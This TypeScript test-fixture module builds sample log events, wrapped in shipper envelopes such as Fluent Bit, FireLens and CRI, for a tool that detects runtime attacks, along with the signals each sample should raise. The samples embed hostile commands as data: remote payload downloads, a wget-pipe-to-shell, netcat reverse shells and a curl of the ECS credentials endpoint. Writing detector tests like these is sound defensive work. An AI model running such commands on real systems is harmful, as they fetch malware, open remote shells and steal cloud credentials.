/**
 * Sample events for the wrappings real log shippers put around a monitor's line (issue 8): Container
 * Insights' Fluent Bit with the line parsed under `log_processed` or merged beside `kubernetes`, FireLens,
 * a CRI-prefixed line, Tetragon's default export (no ancestors: the chain arrives as separate events),
 * and an application quoting a Tetragon record in its own text. Shapes follow test/fixtures/shipped/
 * (their headers name the sources) and src/sources/envelopes.ts.
 */
import type { FieldSample } from "./field-samples.js";
import { datadogExec, falcoAlert, type TetragonProc, tetragonExec } from "./messages.js";

const ACCOUNT = "123456789012";
const EKS_APP_GROUP = "/aws/containerinsights/prod-eks/application";
const NODE = "ip-10-0-12-34.ec2.internal";
const TETRAGON_DOCKER_ID = "3c0e6f1a2b4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7";
/** Container Insights names streams `${HOST_NAME}-` + the tail input's tag. */
const ciStream = (pod: string, ns: string, container: string, id: string) =>
  `${NODE}-application.var.log.containers.${pod}_${ns}_${container}-${id}.log`;
const TETRAGON_STREAM = ciStream("tetragon-7xk2p", "kube-system", "export-stdout", TETRAGON_DOCKER_ID);

/** The kubernetes filter's block: it describes the pod that printed the line, not the workload. */
function kubernetesOf(pod: string, ns: string, container: string, dockerId: string, image: string) {
  return {
    pod_name: pod,
    namespace_name: ns,
    pod_id: "5d1c0f3e-8a2b-4c7d-9e6f-0a1b2c3d4e5f",
    host: NODE,
    container_name: container,
    docker_id: dockerId,
    container_image: image,
  };
}
const TETRAGON_K8S = kubernetesOf(
  "tetragon-7xk2p",
  "kube-system",
  "export-stdout",
  TETRAGON_DOCKER_ID,
  "quay.io/cilium/hubble-export-stdout:v1.0.4",
);

/** Fluent Bit kubernetes filter, Merge_Log On + Merge_Log_Key log_processed + Keep_Log Off. */
function logProcessed(line: string, time: string): string {
  return JSON.stringify({
    time,
    stream: "stdout",
    _p: "F",
    log_processed: JSON.parse(line),
    kubernetes: TETRAGON_K8S,
  });
}

/** Fluent Bit kubernetes filter defaults (no Merge_Log_Key): the parsed keys sit beside `kubernetes`. */
function mergedBesideKubernetes(line: string, time: string, kubernetes: object): string {
  return JSON.stringify({ time, stream: "stdout", _p: "F", ...JSON.parse(line), kubernetes });
}

/** containerd's CRI log line: `<RFC3339Nano> <stream> <F|P> <line>`, forwarded without a CRI parser. */
const criLine = (line: string, time: string) => `${time} stdout F ${line}`;

/** A FireLens record: the container's line under `log` plus the ECS metadata keys. */
function fireLens(line: string, task: string, family: string, revision: number): string {
  return JSON.stringify({
    source: "stdout",
    log: line,
    container_id: "0e5c1b7a9d3f24e6b8c0a2d4f6e8b0c2d4f6a8b0c2e4f6a8b0d2e4f6a8c0e2b4",
    container_name: `/ecs-${family}-${revision}-datadog-agent-d8f0a2c4e6b8d0f2a401`,
    ecs_cluster: "prod-api",
    ecs_task_arn: `arn:aws:ecs:us-east-1:${ACCOUNT}:task/prod-api/${task}`,
    ecs_task_definition: `${family}:${revision}`,
    ec2_instance_id: "i-06bc83dbc2ac2fdf8",
  });
}

const execId = (n: number) => Buffer.from(`${NODE}:${n}00:${4000 + n}`).toString("base64");

/**
 * Tetragon's default export (--enable-process-ancestors off): one process_exec per exec carrying only
 * process and parent; `chain` is oldest first and the events are linked by exec_id/parent_exec_id.
 */
function withoutAncestors(chain: TetragonProc[], times: string[]): string[] {
  const events: string[] = [];
  for (let i = 1; i < chain.length; i++) {
    const record = JSON.parse(tetragonExec(chain[i]!, [chain[i - 1]!], { time: times[i - 1] })) as {
      process_exec: { process: Record<string, unknown>; parent: Record<string, unknown> };
    };
    const { process, parent } = record.process_exec;
    Object.assign(process, { exec_id: execId(i + 1), parent_exec_id: execId(i), in_init_tree: false });
    Object.assign(parent, { exec_id: execId(i), parent_exec_id: execId(i - 1), in_init_tree: false });
    events.push(JSON.stringify(record));
  }
  return events;
}

const WEB_DOCKER_ID = "e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f70";

/**
 * The samples, built on call: tetragonExec numbers exec ids in call order, so building them at import
 * time would renumber the samples generate.ts lists before these.
 */
export function shipperSamples(): FieldSample[] {
  const wgetPipe = tetragonExec({ binary: "/usr/bin/wget", arguments: "-qO- http://203.0.113.45/x.sh" }, [
    { binary: "/bin/sh", arguments: '-c "wget -qO- http://203.0.113.45/x.sh | sh"' },
  ]);
  return [
    {
      file: "fluent-bit-log-processed-tetragon.json",
      format: "tetragon",
      shows: "Container Insights Fluent Bit: Tetragon line parsed under log_processed, no log string",
      expect: { signals: 1, severity: "high" },
      logGroup: EKS_APP_GROUP,
      logStream: TETRAGON_STREAM,
      messages: [
        logProcessed(
          tetragonExec(
            { binary: "/usr/bin/curl", arguments: "-fsSL http://203.0.113.7/x86_64 -o /tmp/.x/kworker" },
            [{ binary: "/bin/sh", arguments: "-c curl -fsSL http://203.0.113.7/x86_64 -o /tmp/.x/kworker" }],
            { time: "2026-11-28T10:31:00.118272104Z" },
          ),
          "2026-11-28T10:31:00.120406219Z",
        ),
      ],
    },
    {
      file: "fluent-bit-merged-falco.json",
      format: "falco",
      shows: "Fluent Bit kubernetes filter defaults: Falco alert keys merged beside kubernetes",
      expect: { signals: 1, severity: "critical" },
      logGroup: EKS_APP_GROUP,
      logStream: ciStream("falco-9vd2k", "falco", "falco", "a7b1c2d3e4f5"),
      messages: [
        mergedBesideKubernetes(
          falcoAlert(
            "Netcat Remote Code Execution in Container",
            "Warning",
            {
              "container.id": "0be477336d3e",
              "container.image.repository": `${ACCOUNT}.dkr.ecr.us-east-1.amazonaws.com/storefront`,
              "container.name": "storefront",
              "k8s.ns.name": "shop",
              "k8s.pod.name": "storefront-6d9f8b7c5-2xkzw",
              "proc.cmdline": "nc 198.51.100.7 4444 -e /bin/sh",
              "proc.exepath": "/usr/bin/nc.traditional",
              "proc.name": "nc",
              "proc.pname": "sh",
              "user.name": "www-data",
            },
            "2026-11-28T10:31:30.118204733Z",
          ),
          "2026-11-28T10:31:30.119004733Z",
          kubernetesOf(
            "falco-9vd2k",
            "falco",
            "falco",
            "a7b1c2d3e4f5061728394a5b6c7d8e9f00112233445566778899aabbccddeeff",
            "docker.io/falcosecurity/falco:0.41.3",
          ),
        ),
      ],
    },
    {
      file: "firelens-datadog.json",
      format: "datadog",
      shows: "FireLens record (log + ecs_* keys): Datadog curl of the task's credentials endpoint",
      expect: { signals: 1, severity: "high" },
      logGroup: "/ecs/orders-api/firelens",
      logStream: "orders-api-firelens-976f2752ecfd4c08a35713e8599a9dea",
      messages: [
        fireLens(
          datadogExec({
            path: "/usr/bin/curl",
            argv: ["curl", "-s", "http://169.254.170.2/v2/credentials/2b4a6c1e-94f3-4bd7-8e51-0c7a9f3d2e11"],
            ancestors: ["/bin/dash", "/usr/local/bin/python3.12"],
            containerId: "976f2752ecfdc083a35713e8599a9dea8f09fea2d2cba5645935e561d2598df6",
            tags: [
              "ecs_cluster_name:prod-api",
              `task_arn:arn:aws:ecs:us-east-1:${ACCOUNT}:task/prod-api/976f2752ecfd4c08a35713e8599a9dea`,
              "task_family:orders-api",
            ],
            time: "2026-11-28T10:32:00.228Z",
          }),
          "976f2752ecfd4c08a35713e8599a9dea",
          "orders-api",
          14,
        ),
      ],
    },
    {
      file: "cri-tetragon.json",
      format: "tetragon",
      shows: "CRI-prefixed line (time, stdout, F, then the JSON) from a shipper without a CRI parser",
      expect: { signals: 1, severity: "critical" },
      logGroup: "/k8s/prod/tetragon",
      logStream: "tetragon-abcde_kube-system_export-stdout-19a02291",
      messages: [
        criLine(
          tetragonExec({ binary: "/tmp/nc", arguments: "-e /bin/sh 198.51.100.24 4445", cwd: "/tmp" }, [
            { binary: "/bin/bash", arguments: "-i" },
          ]),
          "2026-11-28T10:33:00.274015231Z",
        ),
      ],
    },
    {
      file: "tetragon-no-ancestors-chain.json",
      format: "tetragon",
      shows: "Tetragon default export: /tmp/.x/loader -> sh -> curl as separate events, linked by exec_id",
      expect: { signals: 1, severity: "medium" },
      logGroup: EKS_APP_GROUP,
      logStream: TETRAGON_STREAM,
      messages: withoutAncestors(
        [
          { binary: "/bin/bash", cwd: "/tmp/.x" },
          { binary: "/tmp/.x/loader", arguments: "--quiet", cwd: "/tmp/.x" },
          { binary: "/bin/sh", arguments: '-c "curl -fsS http://203.0.113.7/health"', cwd: "/tmp/.x" },
          { binary: "/usr/bin/curl", arguments: "-fsS http://203.0.113.7/health", cwd: "/tmp/.x" },
        ],
        [
          "2026-11-28T10:34:01.100000000Z",
          "2026-11-28T10:34:02.200000000Z",
          "2026-11-28T10:34:03.300000000Z",
        ],
      ),
    },
    {
      file: "forged-app-lines.json",
      format: "forged",
      shows: "a web app quotes a critical Tetragon record inside its own log text: not an exec event",
      expect: { signals: 0 },
      logGroup: EKS_APP_GROUP,
      logStream: ciStream("web-7d4f9c6b8-h2k9s", "shop", "web", "e1f2a3b4c5d6"),
      messages: [
        JSON.stringify({ level: "info", message: wgetPipe, timestamp: "2026-11-28T10:35:00.118Z" }),
        `2026-11-28T10:35:01.118Z INFO webhook payload: ${wgetPipe}`,
        JSON.stringify({
          log: `${JSON.stringify({ level: 30, time: 1795861502118, msg: wgetPipe })}\n`,
          stream: "stdout",
          time: "2026-11-28T10:35:02.118204733Z",
          kubernetes: kubernetesOf("web-7d4f9c6b8-h2k9s", "shop", "web", WEB_DOCKER_ID, "shop/web:5.1.0"),
        }),
      ],
    },
  ];
}
